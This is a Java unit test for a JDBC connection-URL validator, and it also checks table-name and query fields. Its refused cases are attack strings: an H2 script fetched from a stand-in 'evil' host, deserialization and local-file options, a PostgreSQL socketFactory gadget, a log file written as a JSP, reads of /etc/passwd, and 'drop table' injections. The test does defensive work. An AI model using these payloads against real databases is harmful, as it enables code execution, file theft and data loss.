package cn.huijian.exchange.model;

import static org.assertj.core.api.Assertions.assertThat;

import cn.huijian.exchange.model.FeedSettings.JdbcPull;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://10.0.0.5:5432/register",
                "jdbc:postgresql://db.example.gov.cn/register?sslmode=require&connectTimeout=5",
                "jdbc:mariadb://10.0.0.5:3306/bureau?useSsl=true",
                "jdbc:oracle:thin:@//10.0.0.5:1521/orcl",
                "jdbc:dm://10.0.0.5:5236/SYSDBA"
            })
    void ordinary_addresses_are_allowed(String url) {
        assertThat(JdbcAddress.faults(url)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:mysql://h/db?autoDeserialize=true&queryInterceptors=x",
                "jdbc:mariadb://h/db?allowLocalInfile=true",
                "jdbc:mariadb://h/db?ALLOWLOCALINFILE=true",
                "jdbc:mariadb://h/db?allow%4CocalInfile=true",
                "jdbc:mariadb://h/db?serverRsaPublicKeyFile=/etc/passwd",
                "jdbc:mariadb://address=(host=h)(port=1)(allowLocalInfile=true)/db",
                "jdbc:mariadb:sequential://h/db",
                "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil",
                "jdbc:postgresql://h/db?loggerFile=/tmp/x.jsp&loggerLevel=DEBUG",
                "jdbc:postgresql://h/db?sslfactory=x",
                "jdbc:postgresql://user:secret@h/db",
                "jdbc:postgresql://h/db?user=a&password=b",
                "jdbc:postgresql:///../../etc",
                "jdbc:sqlite:/etc/passwd",
                "http://127.0.0.1:8080/",
                ""
            })
    void addresses_that_reach_files_classes_or_scripts_are_refused(String url) {
        assertThat(JdbcAddress.faults(url)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"firms; drop table x", "(select 1)", "a.b.c d", "firms--", ""})
    void a_table_is_a_name_and_nothing_else(String table) {
        assertThat(new JdbcPull("jdbc:postgresql://h/db", "u", table, "", "t", "id", Map.of(), 0).faults())
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"delete from firms", "select 1; drop table firms", "call x()"})
    void a_query_is_one_select(String query) {
        assertThat(new JdbcPull("jdbc:postgresql://h/db", "u", "", query, "t", "id", Map.of(), 0).faults())
                .isNotEmpty();
    }
}
